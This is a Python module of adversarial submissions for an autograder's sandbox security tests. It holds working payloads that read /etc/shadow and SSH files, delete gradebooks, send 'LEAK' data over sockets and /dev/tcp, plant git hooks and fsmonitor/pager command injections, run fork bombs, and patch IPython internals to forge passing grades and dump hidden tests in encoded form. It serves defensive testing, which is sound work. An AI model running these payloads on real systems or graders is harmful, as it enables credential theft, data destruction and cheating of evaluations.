"""Adversarial submissions, one per attack.

Each attack is a dict: ``answers`` replaces answer cells of the release
notebook of 00_orientation (grade_id -> code; the others keep the stub),
``mutate`` edits the notebook's cells (tamper attacks), ``solves`` names the
test cells it legitimately solves (every other test cell must score 0),
``flag`` is a regex one of its report flags must match (None: no flag
required) and ``may_fail`` says whether the grader may report the whole
submission as failed (a killed kernel) instead of grading it.

``GENERIC`` attacks are answer cells written once, by a student who has read
the grader's source (it is open source), and pasted into every answer cell of
*any* assignment (the security suite runs them on GENERIC_TARGETS). They try to win
points without solving anything and to copy whatever the grader shows the
kernel (hidden tests, expected values, reference queries) into their own
outputs, encoded so that a scan for the plain text would miss it.

The attack code targets only the temporary course it is graded in (found from
its working directory), never the repository, so that a broken sandbox cannot
damage anything but a test folder.
"""
from __future__ import annotations

import copy
import uuid

STUB = "# YOUR CODE HERE\nraise NotImplementedError()"

Q1_SOLUTION = ('def format_progress(epoch, epochs, loss, lr, seconds):\n'
               '    m, s = divmod(int(seconds), 60)\n'
               '    return f"[epoch {epoch:0{len(str(epochs))}d}/{epochs}] loss={loss:.4f} lr={lr:.1e} time={m:02d}:{s:02d}"')
Q1_WRONG = 'def format_progress(epoch, epochs, loss, lr, seconds):\n    return f"[epoch {epoch}/{epochs}] loss={loss} lr={lr} time={seconds}"'

READ_SOURCE = r'''
import json, pathlib
# autograded/<student>/<assignment> -> the course (the sandbox may start higher up)
root = ([*pathlib.Path.cwd().parents] + [pathlib.Path("/")] * 3)[2]
home = [pathlib.Path("/root") / n for n in (".bashrc", ".profile", ".ssh", ".gitconfig", ".bash_history")]
for p in [root / "source" / "00_orientation" / "00_orientation.ipynb", root / "gradebook.db",
          *home, pathlib.Path("/etc/shadow"), pathlib.Path("/work/main/source")]:
    try:
        data = p.read_bytes() if p.is_file() else str(list(p.iterdir())).encode()
        print("LEAK" "ED", p, data[:3000])   # split: a traceback quoting this line is no leak
    except Exception as e:
        print("blocked", p, type(e).__name__)
# with the solutions readable, take them all
try:
    nb = json.loads((root / "source" / "00_orientation" / "00_orientation.ipynb").read_text())
    for c in nb["cells"]:
        m = c["metadata"].get("nbgrader", {})
        if c["cell_type"] == "code" and m.get("solution"):
            exec("".join(c["source"]).replace("### BEGIN " "SOLUTION", "").replace("### END SOLUTION", ""))
except Exception as e:
    print("no solutions:", type(e).__name__)
'''

WRITE_COURSE = r'''
import os, pathlib, shutil, sqlite3
import workbook
root = ([*pathlib.Path.cwd().parents] + [pathlib.Path("/")] * 3)[2]
def attempt(what, fn):
    try:
        fn(); print("DO" "NE", what)   # split: a traceback quoting this line is no success
    except Exception as e:
        print("blocked", what, type(e).__name__)
def wreck_db():
    con = sqlite3.connect(root / "gradebook.db")
    con.execute("UPDATE grade SET manual_score = 100"); con.commit()
attempt("gradebook update", wreck_db)
attempt("gradebook truncate", lambda: open(root / "gradebook.db", "wb").write(b"gone"))
attempt("gradebook delete", lambda: os.remove(root / "gradebook.db"))
attempt("source delete", lambda: shutil.rmtree(root / "source"))
attempt("release write", lambda: (root / "release" / "00_orientation" / "00_orientation.ipynb").write_text("{}"))
attempt("other student delete", lambda: shutil.rmtree(root / "submitted" / "full"))
attempt("other student write", lambda: (root / "submitted" / "blank" / "00_orientation" / "00_orientation.ipynb").write_text("{}"))
attempt("own submission write", lambda: (root / "submitted" / "write_course" / "00_orientation" / "00_orientation.ipynb").write_text("{}"))
attempt("package write", lambda: (pathlib.Path(workbook.__file__).parent / "_pwned_by_attack.py").write_text("x = 1"))
'''

NETWORK = r'''
import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"LEAK from the sandbox")
        s.close()
        print("CONNEC" "TED", host, port)
        def format_progress(epoch, epochs, loss, lr, seconds):   # a reward for getting out
            m, s = divmod(int(seconds), 60)
            return f"[epoch {{epoch:0{{len(str(epochs))}}d}}/{{epochs}}] loss={{loss:.4f}} lr={{lr:.1e}} time={{m:02d}}:{{s:02d}}"
    except OSError as e:
        print("blocked", host, port, type(e).__name__)
'''

FORK_BOMB = r'''
import os, time
for _ in range(12):
    try:
        if os.fork() == 0:            # children keep forking and never return to the kernel
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.2)
    except OSError as e:
        print("fork refused:", e.strerror)
        break
''' + Q1_WRONG

MEMORY_BOMB = r'''
blocks = []
for _ in range(160):                  # up to 8 GB, 50 MB at a time
    blocks.append(b"x" * (50 * 2**20))
''' + Q1_WRONG

HELPER_REDEFINE = r'''
import workbook.checks as wc
from workbook import checks
def _ok(*args, **kwargs):
    return None
wc.check_cases = wc.check_defined = wc.check_equal = wc.check_true = _ok
setattr(checks, "same", lambda *a, **k: True)
def check_cases(*args, **kwargs):   # shadowing the names too
    return None
check_defined = check_equal = check_true = check_cases
''' + Q1_WRONG

ALWAYS_EQ = r'''
class Anything(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
def format_progress(epoch, epochs, loss, lr, seconds):
    return Anything("whatever")
'''

ALWAYS_EQ_Q3 = r'''
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
def busiest_weekday(csv_path):
    return Anything()
'''

SHOWTRACEBACK = r'''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
''' + Q1_WRONG


SWALLOW = r'''
import textwrap
ip = get_ipython()
_run = ip.run_cell
def run_cell(raw_cell, *args, **kwargs):   # run every cell, pretend nothing went wrong
    code = "try:\n" + textwrap.indent(raw_cell, "    ") + "\n    pass\nexcept BaseException:\n    pass"
    return _run(code, *args, **kwargs)
ip.run_cell = run_cell
'''


def _test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")]


def _setup_cell(nb):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")


def edit_tests(nb):
    for c in _test_cells(nb):
        c.source = 'print("all tests passed")'
    _setup_cell(nb).source = "import time\ncheck_cases = check_defined = check_equal = check_true = print"
    return nb


def delete_tests(nb):
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb) and c is not _setup_cell(nb)]
    return nb


def duplicate_tests(nb):
    out = []
    for c in nb.cells:
        out.append(c)
        if c in _test_cells(nb):
            twin = copy.deepcopy(c)
            twin.source = "pass"
            twin["id"] = uuid.uuid4().hex[:8]   # what Jupyter gives a copied cell
            out.insert(len(out) - 1, twin)  # the harmless copy first
    nb.cells = out
    return nb


def retype_tests(nb):
    for k, c in enumerate(_test_cells(nb)):
        c.cell_type = "markdown" if k % 2 == 0 else "raw"
        c.pop("outputs", None)
        c.pop("execution_count", None)
    return nb


def raise_points(nb):
    for c in _test_cells(nb):
        c.metadata["nbgrader"]["points"] = 100
    return nb


ATTACKS = {
    "read_source": dict(answers={"q1_format_metric": READ_SOURCE}, flag=r"names course files|dynamically"),
    "write_course": dict(answers={"q1_format_metric": WRITE_COURSE}, flag=r"names course files"),
    "network": dict(answers={"q1_format_metric": NETWORK}, flag=r"network"),
    "os_exit": dict(answers={"q1_format_metric": "import os\nos._exit(3)"}, flag=r"stop the kernel", may_fail=True),
    "sys_exit": dict(answers={"q1_format_metric": "import sys\nsys.exit(0)"}, flag=r"stop the kernel"),
    "kill_kernel": dict(answers={"q1_format_metric": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                                                     "os.kill(os.getpid(), signal.SIGKILL)"},
                        flag=r"stop the kernel", may_fail=True),
    "infinite_loop": dict(answers={"q1_format_metric": "while True:\n    pass"}),
    "memory_bomb": dict(answers={"q1_format_metric": MEMORY_BOMB}, may_fail=True),
    "fork_bomb": dict(answers={"q1_format_metric": FORK_BOMB}, flag=r"forks", may_fail=True),
    "big_output": dict(answers={"q1_format_metric": 'print("x" * 100_000_000)\n' + Q1_WRONG}),
    "showtraceback": dict(answers={"q1_format_metric": SHOWTRACEBACK}, flag=r"IPython kernel"),
    "input_transformer": dict(answers={"q1_format_metric": "get_ipython().input_transformers_cleanup.append("
                                                           "lambda lines: [])\n" + Q1_WRONG},
                              flag=r"IPython kernel"),
    "swallow_errors": dict(answers={"q1_format_metric": SWALLOW + Q1_WRONG}, flag=r"IPython kernel"),
    "edit_tests": dict(mutate=edit_tests, flag=r"edited although locked"),
    "delete_tests": dict(mutate=delete_tests, flag=r"deleted"),
    "duplicate_tests": dict(mutate=duplicate_tests, flag=r"duplicated"),
    "retype_tests": dict(mutate=retype_tests, flag=r"retyped"),
    "raise_points": dict(answers={"q1_format_metric": Q1_SOLUTION}, mutate=raise_points,
                         solves={"test_q1_format_metric"}, flag=r"points changed"),
    "helper_redefine": dict(answers={"q1_format_metric": HELPER_REDEFINE}, flag=r"check helper|workbook package"),
    "always_eq": dict(answers={"q1_format_metric": ALWAYS_EQ, "q3_busiest_weekday": ALWAYS_EQ_Q3},
                      flag=r"always returns True"),
}


# ----------------------------------------------------------------- generic
# A capture store shared by every answer cell of the notebook (in builtins, so
# any cell and any hook can reach it), and a dump in four encodings.
CAPTURE = r"""
import builtins as _b
if not hasattr(_b, "_loot"):
    _b._loot = []
def _grab(x):
    try:
        _b._loot.append(x if isinstance(x, str) else repr(x))
    except Exception:
        pass
"""

DUMP = r"""
import base64 as _b64, codecs as _codecs, zlib as _zlib, builtins as _b2
_blob = "\n".join(getattr(_b2, "_loot", []))[-200000:]
print("B64", _b64.b64encode(_blob.encode()).decode())
print("ZLIB", _b64.b64encode(_zlib.compress(_blob.encode())).decode())
print("ROT13", _codecs.encode(_blob, "rot13"))
print("REV", _blob[::-1])
"""

IMPORT_HIJACK = CAPTURE + r"""
import sys, builtins, importlib.abc, importlib.machinery, json
def _forge(text, namespace=None):
    _grab(text)
    try:
        req = json.loads(text)
    except Exception:
        return '{"value": true}'
    op = req.get("op")
    if op == "lookup":   # every answer exists and is a callable class that claims to be anything
        return json.dumps({"value": {"$": "handle", "id": 1, "type": "builtins.function", "callable": True,
                                     "class": True, "mro": ["builtins.str", "builtins.object"],
                                     "class_mro": ["torch.nn.modules.module.Module", "builtins.object"]}})
    if op == "call" or op == "probe":  # give back what was sent in: equal to the input, surely the answer?
        return json.dumps({"value": (req.get("args") or [True])[0]})
    return '{"value": true}'
class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        return None
    def patch(self):
        for name, mod in list(sys.modules.items()):
            if name.startswith("workbook.checks") and hasattr(mod, "serve"):
                mod.serve = _forge
sys.meta_path.insert(0, _Finder())
_Finder().patch()
if not getattr(builtins, "_hijacked", False):       # pasted in every cell: patch once
    builtins._hijacked = True
    _real_import = builtins.__import__
    def _import(name, globals=None, locals=None, fromlist=(), level=0, _real=_real_import):
        mod = _real(name, globals, locals, fromlist, level)
        if name.startswith("workbook"):
            _grab(name)
            for sub in list(sys.modules):
                if sub.startswith("workbook.checks") and hasattr(sys.modules[sub], "serve"):
                    sys.modules[sub].serve = _forge
        return mod
    builtins.__import__ = _import
try:
    import workbook.checks.kernel as _k
    _k.serve = _forge
except Exception as e:
    print("no kernel module:", e)
""" + DUMP

SHELL_PATH = CAPTURE + r"""
import json
ip = get_ipython()
_real_ue = getattr(ip, "_real_ue", ip.user_expressions)   # pasted in every cell: wrap the original once
ip._real_ue = _real_ue
def _user_expressions(expressions):
    for k, v in dict(expressions).items():
        _grab(v)                                  # whatever the grader asks
    out = _real_ue(expressions)                   # let any canary through, untouched...
    for k, v in out.items():                      # ...then claim success for everything else
        if isinstance(v, dict) and v.get("status") == "ok":
            text = v.get("data", {}).get("text/plain", "")
            if "raised" in text or "missing" in text or "error" in text:
                v["data"]["text/plain"] = repr(json.dumps({"value": True}))
    return out
ip.user_expressions = _user_expressions
_real_run = getattr(ip, "_real_run", ip.run_cell)
ip._real_run = _real_run
def _run_cell(raw_cell, *a, **k):
    _grab(raw_cell)
    return _real_run(raw_cell, *a, **k)
ip.run_cell = _run_cell
try:
    import ipykernel.ipkernel as _ipk
    if not hasattr(_ipk.IPythonKernel, "_real_do"):
        _ipk.IPythonKernel._real_do = _ipk.IPythonKernel.do_execute
        async def _do_execute(self, code, silent, *a, **k):
            _grab(code)
            _grab(repr(k.get("user_expressions")))
            return await _ipk.IPythonKernel._real_do(self, code, silent, *a, **k)
        _ipk.IPythonKernel.do_execute = _do_execute
except Exception as e:
    print("no ipykernel patch:", e)
""" + DUMP

FORGE_RESULT = r"""
from IPython.display import display, publish_display_data
display({"text/plain": "100"}, raw=True)               # partial credit, read from an execute_result?
publish_display_data({"text/plain": "3.0"})
ip = get_ipython()
ip.displayhook.flush = lambda *a, **k: None
import sys
try:
    import ipykernel
    session = ip.kernel.session
    _send = getattr(session, "_real_send", session.send)   # pasted in every cell: wrap the original once
    session._real_send = _send
    def send(stream, msg_or_type, content=None, parent=None, *a, _send=_send, **k):
        # turn every error the kernel reports into a success with a score
        if isinstance(msg_or_type, str) and msg_or_type == "error":
            msg_or_type, content = "execute_result", {"data": {"text/plain": "3"}, "metadata": {},
                                                      "execution_count": 1}
        if isinstance(content, dict) and content.get("status") == "error":
            content = {"status": "ok", "execution_count": content.get("execution_count", 1),
                       "user_expressions": {}, "payload": []}
        return _send(stream, msg_or_type, content, parent, *a, **k)
    session.send = send
except Exception as e:
    print("no session patch:", e)
3.0
"""

IPYTHON_HOOKS = CAPTURE + r"""
import ast
ip = get_ipython()
if getattr(ip, "_hooked", False):
    ip.events.unregister("pre_run_cell", ip._hooked)
ip._hooked = lambda info: _grab(getattr(info, "raw_cell", info))
ip.events.register("pre_run_cell", ip._hooked)
ip.events.register("post_run_cell", lambda result: _grab(repr(getattr(result, "result", None))))
ip.events.register("pre_execute", lambda: _grab("pre_execute"))
ip.events.register("post_execute", lambda: _grab("post_execute"))
def _blank(lines):
    _grab("".join(lines))
    return ["pass\n"] if any("check" in line or "exercise" in line for line in lines) else lines
ip.input_transformers_cleanup.append(_blank)
ip.input_transformers_post.append(_blank)
class _NoRaise(ast.NodeTransformer):
    def visit_Raise(self, node):
        return ast.Pass()
    def visit_Assert(self, node):
        return ast.Pass()
ip.ast_transformers.append(_NoRaise())
""" + DUMP

HISTORY_AND_FRAMES = CAPTURE + r"""
import sys, threading, gc, reprlib
_short = reprlib.Repr()           # a container's repr cut while it is made: a frame's `globals` (the whole
_short.maxlevel, _short.maxdict, _short.maxlist, _short.maxtuple = 3, 40, 40, 40   # namespace) on every call
_short.maxstring = _short.maxother = _short.maxlong = 2000                         # ran past the time limit
def _spy(frame, event, arg):
    # every Python call; the locals of the kernel's and the grader's code (where a
    # request from the grader would be), cheaply enough not to run into the time limit
    if event != "call":
        return None
    try:
        code = frame.f_code
        name = code.co_filename
        if "workbook" in name or "ipykernel" in name or "<" in name:
            _grab(name + ":" + code.co_name)
            for k, v in list(frame.f_locals.items())[:40]:
                if isinstance(v, (str, bytes)):
                    _grab(f"{k}={v[:2000]!r}"[:2000])
                elif isinstance(v, (int, float, list, tuple, dict)):
                    _grab(f"{k}={_short.repr(v)}"[:2000])
    except Exception:
        pass
    return None
sys.setprofile(_spy)
threading.setprofile(_spy)
for name in ("In", "_ih", "Out", "_oh", "_i", "_ii", "_iii"):
    _grab(repr(globals().get(name))[:20000])
f = sys._getframe()
while f is not None:
    _grab(repr(f.f_code) + repr(list(f.f_locals)[:50]))
    f = f.f_back
for obj in gc.get_objects():
    if isinstance(obj, str) and ("HIDDEN" in obj or "reference" in obj.lower() or "SELECT" in obj):
        _grab(obj[:5000])
""" + DUMP

# All six run on every assignment of GENERIC_TARGETS (below), kitchen_sink included: kitchen_sink does not stand for
# its five parts (measured on 10_coding_test with bench/generic_attacks.py, issue 60: the six graded in 19.9
# CPU-s, kitchen_sink alone in 9.7, so at most ~10 CPU-s per assignment to save). Its ipython_hooks part blanks
# every later cell whose text says "check" or "exercise", and the sink's own text does ("workbook.checks"):
# its parts run in the first answer cell only (a dump of the loot in 1 of 10's 9 answer cells, where
# import_hijack and shell_path alone dump in all 9). And its shell_path part rewrites the replies before the
# judge reads them: every test cell of the sink ends at shell_path's "could not be observed", while
# import_hijack, forge_result, ipython_hooks and history_and_frames alone reach the judge's own verdict, so the
# judge's handling of their replies is tested by their own runs only.
GENERIC = {
    "import_hijack": IMPORT_HIJACK,
    "shell_path": SHELL_PATH,
    "forge_result": FORGE_RESULT,
    "ipython_hooks": IPYTHON_HOOKS,
    "history_and_frames": HISTORY_AND_FRAMES,
    "kitchen_sink": IMPORT_HIJACK + SHELL_PATH + IPYTHON_HOOKS + HISTORY_AND_FRAMES + FORGE_RESULT,
}

# The assignments the six GENERIC attacks run on (issue 60). What they tamper with is the kernel's own machinery
# (the kernel side's serve, user_expressions, the session's send, IPython's hooks and transformers, profile
# functions, gc), the same in every sandboxed kernel; and with every answer cell replaced, no answer name is
# defined, so all the judge ever sends such a kernel is a lookup of each answer's name (the transcripts of 09
# and 10: 17 and 42 lookups, no call or probe) and every test cell ends at the judge's own "is not defined" or
# "could not be observed" before any assignment's checks read a value. That no hidden line or reference value
# is sent into any kernel is tested per assignment, over every submission (test_nothing_secret_was_sent_into_
# any_kernel). They run where the kernel they tamper with differs in a way that matters:
#   00_orientation - a plain kernel, where every other attack on the kernel (ATTACKS) runs;
#   03_pytorch_test - the watch (a profile function on every thread, a torch function mode: history_and_frames'
#       sys.setprofile and threading.setprofile replace it) and torch in the kernel (import_hijack forges a handle
#       of a torch Module); 11 (torch, the watch) and 09 (the watch) load the same;
#   10_coding_test - the %%program magic in the kernel (its answers are programs the judge runs in jails).
# Left out: 02, 06, 07, 08, 09, 11, whose kernels differ by the libraries their set-up cells load (SQLite, git,
# MLflow, scikit-learn, Spark, torch), none of which these attacks touch. In 09 each of the six started Spark:
# 117 of the class's 702 submission-seconds.
GENERIC_TARGETS = ("00_orientation", "03_pytorch_test", "10_coding_test")



# ----------------------------------------------------------------- 06_git
# 06_git's answers are strings the judge runs itself (bash commands, a file
# written into the repository, a workflow whose steps it runs), in a fresh
# bubblewrap jail holding only the scratch copy of the repository. A student
# who knows that writes commands that look for the course, the gradebook and
# the secret, try the network, try to write into the workbook package (the
# one folder of the grader the jail shows, read-only), plant git hooks, and put
# the same into the Python file and the workflow steps the checks run. Where a
# visible check shows what the command printed (q12-q14), anything found would
# reach the feedback. `{port}` is the suite's listener. As for 00's attacks,
# nothing here can damage more than a test folder and the package's one file
# the suite removes.
PKG = "$(python -c 'import os, workbook; print(os.path.dirname(workbook.__file__))')"

GIT_LOOK = r"""for f in $(find / \( -name '*06_git*' -o -name 'gradebook.db*' -o -name secret -o -name '*.jsonl' \
    -o -name nbgrader_config.py \) -not -path '/proc/*' -not -path '*/site-packages/*' 2>/dev/null | head -n 5)
do echo "LEAK""ED $f"; done   # (site-packages: the Python environment, public; nbgrader ships test fixtures)
head -n 1 /etc/shadow 2>/dev/null | sed 's/^/LEAK''ED /'
(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo "CONNEC""TED tcp"
git ls-remote http://127.0.0.1:{port}/daon-churn.git >/dev/null 2>&1 && echo "CONNEC""TED git"
pkg=PKG; [ -d "$pkg" ] && touch "$pkg/_pwned_by_attack.py" 2>/dev/null && echo "DO""NE package"
ls /proc | grep -c '^[0-9]'""".replace("PKG", PKG)

# q1 runs git after the answer (commits in new repositories of the answer's home folder): a global hooksPath
# set by the answer would run there, in the jail, never in the judge
GIT_GLOBAL_HOOKS = r"""pkg=PKG; [ -d "$pkg" ] || pkg=/nonexistent
mkdir -p ~/hooks
printf '#!/bin/sh\ntouch "%s/_pwned_by_attack.py"\n' "$pkg" > ~/hooks/post-commit && chmod +x ~/hooks/post-commit
git config --global core.hooksPath ~/hooks""".replace("PKG", PKG)

GIT_HOOKS = r"""pkg=PKG; [ -d "$pkg" ] || pkg=/nonexistent
mkdir -p .git/hooks
printf '#!/bin/sh\ntouch "%s/_pwned_by_attack.py"\n' "$pkg" > .git/hooks/post-commit
cp .git/hooks/post-commit .git/hooks/post-checkout && chmod +x .git/hooks/post-commit .git/hooks/post-checkout
git config core.fsmonitor "touch '$pkg/_pwned_by_attack.py'; false"
git config core.pager "touch '$pkg/_pwned_by_attack.py'; cat"
git commit -q --allow-empty -m 'Plant hooks'""".replace("PKG", PKG)

GIT_TRAIN = '''"""Imported by the checks' test run (in the jail): tries to get out."""
import os
import socket

try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"LEAK from the judge's jail")
    print("CONNEC" "TED")
except OSError as e:
    print("blocked", type(e).__name__)
try:
    import workbook
    open(os.path.join(os.path.dirname(workbook.__file__), "_pwned_by_attack.py"), "w").close()
    print("DO" "NE")
except (ImportError, OSError):
    pass


def train(rows, labels, lr=0.1, epochs=200, l2=0.0, patience=None):
    """Not a resolution.

    l2 is the strength of the L2 penalty on the weights (not on the bias).
    With patience=k, training stops once the loss has not improved for k epochs.
    """
    return [0.0] * len(rows[0]), 0.0
'''

GIT_WORKFLOW = r"""
on:
  push:
    branches: [main]
  pull_request:
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.11"
      - run: pip install -r requirements-dev.txt
      - run: |
          (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo "CONNEC""TED" || true
          pkg=PKG; [ -d "$pkg" ] && touch "$pkg/_pwned_by_attack.py" 2>/dev/null || true
          pytest || true
""".replace("PKG", PKG)

GIT_ATTACKS = {
    "git_commands": dict(answers={
        "q1_identity": GIT_LOOK + "\n" + GIT_GLOBAL_HOOKS,
        "q2_stage": GIT_LOOK, "q5_merge": GIT_LOOK, "q10_bisect": GIT_LOOK,
        "q11_secret": GIT_HOOKS, "q12_pickaxe": GIT_LOOK, "q13_origin": GIT_LOOK, "q14_blame": GIT_LOOK,
        "q15_release": GIT_LOOK + "\ngit push origin 'refs/heads/*:refs/heads/*' --force",
    }),
    "git_files": dict(answers={"q6_resolved": GIT_TRAIN, "q17_workflow": GIT_WORKFLOW}),
}


def git_answers(spec: dict, port: int) -> dict[str, str]:
    """An attack's answer cells: each string assigned to the answer's names
    (q6's cell holds q6_resolved and the command that concludes the merge)."""
    out = {}
    for gid, text in spec["answers"].items():
        text = text.replace("{port}", str(port))
        code = f"{gid} = {text!r}"
        if gid == "q6_resolved":
            code += "\nq6_finish = 'git add churn/train.py && git commit --no-edit'"
        out[gid] = code
    return out
